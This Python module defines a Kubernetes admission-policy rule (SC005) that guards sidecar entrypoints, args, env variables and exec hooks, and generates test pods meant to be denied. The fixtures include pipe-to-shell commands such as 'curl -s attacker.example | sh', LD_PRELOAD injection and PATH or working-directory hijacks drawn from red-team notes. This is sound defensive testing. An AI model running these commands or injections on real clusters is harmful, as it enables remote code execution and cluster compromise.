"""SC005: a sidecar keeps its entrypoint and approved args, pinned env values and no forbidden variable."""

from __future__ import annotations

from pathlib import Path

from ..registry import POD, SIDECAR_CATEGORY, Rule, RuleInfo, per_sidecar


def _sidecar(sidecar):
    if (sidecar.args is None and sidecar.command_allowed is not False and sidecar.env is None
            and sidecar.exec_handlers is None):
        return None
    env = sidecar.env
    return {
        "name": sidecar.name,
        "forbidCommand": sidecar.command_allowed is False,
        "checkArgs": sidecar.args is not None,
        "argsPrefix": list(sidecar.args.prefix) if sidecar.args else [],
        "pinnedEnv": [{"name": k, "value": v} for k, v in sorted(env.pinned.items())] if env else [],
        "forbiddenEnv": sorted(env.forbidden) if env else [],
        # With a list of allowed names, every other name is denied; the pinned ones are allowed too.
        "envAllowlist": env is not None and env.allowed is not None,
        "allowedEnv": sorted(set(env.allowed or ()) | set(env.pinned)) if env else [],
        # With execHandlers, every exec hook and probe must start with one of these commands.
        "checkExec": sidecar.exec_handlers is not None,
        "execPrefixes": [list(p) for p in sidecar.exec_handlers.allowed] if sidecar.exec_handlers else [],
    }


def plan(given):
    return per_sidecar(given, _sidecar)


def cases(p, kit):
    side = p["sidecars"][0]
    name = side["name"]
    if side["forbidCommand"]:
        kit.pod("command_override", "command-set", lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh", "-c", "curl evil | sh"]))
        # pilot-agent reads its bootstrap template by a relative path: in a folder the pod can fill, it runs the author's (red team 15a).
        kit.pod("working_dir_set", "working-dir-set", lambda pod: kit.sidecar(pod, name).update(workingDir="/var/lib/istio/data"))
        kit.pod("working_dir_root", "working-dir-set", lambda pod: kit.sidecar(pod, name).update(workingDir="/"))
        kit.pod("working_dir_empty", False, lambda pod: kit.sidecar(pod, name).update(workingDir=""))
        kit.pod("working_dir_not_a_string", "working-dir-set", lambda pod: kit.sidecar(pod, name).update(workingDir=["/tmp"]))
    if side["checkArgs"] and side["argsPrefix"]:
        kit.pod("args_replaced", "args-prefix", lambda pod: kit.sidecar(pod, name).update(args=["--evil"]))
        kit.pod("args_prefix_shifted", "args-prefix", lambda pod: kit.sidecar(pod, name).update(args=["--evil", *side["argsPrefix"]]))
    if side["pinnedEnv"]:
        kit.pod("pinned_env_changed", "env-pinned-mismatch", lambda pod: kit.sidecar(pod, name)["env"][0].update(value="evil.example:15012"))
        kit.pod("pinned_env_value_from", "env-pinned-mismatch", lambda pod: kit.sidecar(pod, name)["env"][0].update(
            valueFrom={"configMapKeyRef": {"name": "x", "key": "y"}}))
    if side["forbidCommand"]:
        kit.pod("command_override_outside_mesh", False, lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh"]), outside=True)
    # An env that is no list has no variables to read (a differential fuzzer, 2026-12-05: the Rego's
    # counterexample search read it as a list of none, all named).
    kit.pod("env_not_a_list", ("env-malformed", "env-pinned-missing") if side["pinnedEnv"] else "env-malformed",
            lambda pod: kit.sidecar(pod, name).update(env="LD_PRELOAD=/tmp/x.so"))
    kit.pod("env_variable_not_a_mapping", ("env-malformed", "env-pinned-missing") if side["pinnedEnv"] else "env-malformed",
            lambda pod: kit.sidecar(pod, name).update(env=["LD_PRELOAD=/tmp/x.so"]))
    kit.pod("extra_env", "env-not-allowed" if side["envAllowlist"] else False,
            lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": "POLICYGEN_EXTRA", "value": "1"}))
    if side["envAllowlist"]:
        unpinned = sorted(set(side["allowedEnv"]) - {p["name"] for p in side["pinnedEnv"]})
        if unpinned:
            kit.pod("allowed_env", False,
                    lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": unpinned[0], "value": "1"}))
        # Each name the allowlist does not hold, however close to one it looks.
        first = side["allowedEnv"][0] if side["allowedEnv"] else "CA_ADDR"
        near = first.swapcase() if first.swapcase() != first else f"{first}_"
        kit.pod("env_not_allowed_case", "env-not-allowed",
                lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": near, "value": "1"}))
        kit.pod("envfrom_with_allowlist", ("envfrom-forbidden", "exec-not-approved") if side["execPrefixes"] else "envfrom-forbidden",
                lambda pod: kit.sidecar(pod, name).update(envFrom=[{"configMapRef": {"name": "settings"}}]))
    if side["checkExec"]:
        _exec_cases(side, kit)
    if side["forbiddenEnv"]:
        var = side["forbiddenEnv"][0]
        # A forbidden name is outside any allowlist too (the spec refuses one in both).
        kit.pod("forbidden_env", ("env-forbidden", "env-not-allowed") if side["envAllowlist"] else "env-forbidden",
                lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": var, "value": "/tmp/x.so"}))



def _exec_cases(side, kit):
    name = side["name"]
    shell = {"exec": {"command": ["/bin/sh", "-c", "curl -s attacker.example | sh"]}}

    def hook(where, handler):
        def mutate(pod):
            container = kit.sidecar(pod, name)
            if where in ("postStart", "preStop"):
                container.setdefault("lifecycle", {})[where] = handler
            else:
                container[where] = handler
        return mutate

    for where in ("postStart", "preStop", "livenessProbe", "readinessProbe", "startupProbe"):
        kit.pod(f"exec_{where}_shell", "exec-not-approved", hook(where, shell))
    # Near misses of an approved command, each denied: cut short, a path to the same name, a shifted prefix.
    if side["execPrefixes"]:
        first = side["execPrefixes"][0]
        kit.pod("exec_approved", False, hook("preStop", {"exec": {"command": [*first, "--extra"]}}))
        if len(first) > 1:
            kit.pod("exec_prefix_cut", "exec-not-approved", hook("preStop", {"exec": {"command": first[:-1]}}))
        kit.pod("exec_prefix_shifted", "exec-not-approved", hook("preStop", {"exec": {"command": ["env", *first]}}))
        kit.pod("exec_prefix_path", "exec-not-approved", hook("preStop", {"exec": {"command": [f"/tmp/{first[0]}", *first[1:]]}}))
    # Fail closed: a hook or lifecycle that is no mapping, a command that is no list of strings.
    kit.pod("exec_lifecycle_not_a_mapping", "exec-not-approved",
            lambda pod: kit.sidecar(pod, name).update(lifecycle=["sh", "-c", "id"]))
    kit.pod("exec_hook_not_a_mapping", "exec-not-approved", hook("postStart", "sh -c id"))
    kit.pod("exec_command_a_string", "exec-not-approved", hook("readinessProbe", {"exec": {"command": "sh -c id"}}))
    kit.pod("exec_not_a_mapping", "exec-not-approved", hook("livenessProbe", {"exec": ["sh", "-c", "id"]}))
    # What runs no program in the sidecar passes: an HTTP probe, a sleep hook, a null exec.
    kit.pod("http_probe", False, hook("readinessProbe", {"httpGet": {"path": "/healthz/ready", "port": 15021}}))
    kit.pod("sleep_hook", False, hook("preStop", {"sleep": {"seconds": 5}}))
    kit.pod("exec_null", False, hook("startupProbe", {"exec": None, "tcpSocket": {"port": 15021}}))
    kit.pod("exec_shell_outside_mesh", False, hook("postStart", shell), outside=True)
    # The approved words, but the program they name found through a PATH the pod author sets (red team 13b).
    if not side["execPrefixes"]:
        return
    path_checks = ("exec-not-approved", "env-not-allowed") if side["envAllowlist"] and "PATH" not in side["allowedEnv"] else "exec-not-approved"
    kit.pod("exec_path_set", path_checks, lambda pod: kit.sidecar(pod, name).setdefault("env", []).append(
        {"name": "PATH", "value": "/etc/istio/proxy:/usr/local/bin:/usr/bin:/bin"}))
    from_checks = ("exec-not-approved", "envfrom-forbidden") if side["envAllowlist"] or side["forbiddenEnv"] else "exec-not-approved"
    kit.pod("exec_envfrom", from_checks, lambda pod: kit.sidecar(pod, name).update(envFrom=[{"configMapRef": {"name": "paths"}}]))


def usual(params):
    """Whether usual.rego.jinja can clear this rule's sidecars: its lines are the usual case of problems(),
    which holds only without an env allowlist or exec checks, and reads pinned names once each."""
    def clearable(side):
        pinned = [want["name"] for want in side["pinnedEnv"]]
        return (side["envAllowlist"] is False and side["checkExec"] is False and isinstance(side["argsPrefix"], list)
                and len(set(pinned)) == len(pinned) and not set(pinned) & set(side["forbiddenEnv"]))
    return all(map(clearable, params["sidecars"]))


RULE = Rule(
    info=RuleInfo("SC005", "sidecar-command-args-env", "Sidecar command, args and env",
                  "A sidecar keeps its entrypoint, starts with the approved args, carries the pinned env values and none of the forbidden variables.",
                  SIDECAR_CATEGORY, "high", POD),
    checks={
        "command-set": "command is set while commandAllowed is false",
        "working-dir-set": "workingDir is set while commandAllowed is false: the entrypoint would run elsewhere than the image's working directory",
        "args-prefix": "args do not start with the approved prefix",
        "env-pinned-missing": "a pinned env variable is missing",
        "env-pinned-mismatch": "a pinned env variable has another value or a valueFrom",
        "env-forbidden": "a forbidden env variable is set",
        "env-not-allowed": "an env variable outside the allowed names is set",
        "envfrom-forbidden": "envFrom can set forbidden or unlisted variables",
        "env-malformed": "env or args is not of the shape Kubernetes reads",
        "exec-not-approved": "a lifecycle hook or exec probe runs a command that starts with no approved prefix",
    },
    plan=plan,
    cases=cases,
    folder=Path(__file__).parent,
    usual=usual,
)
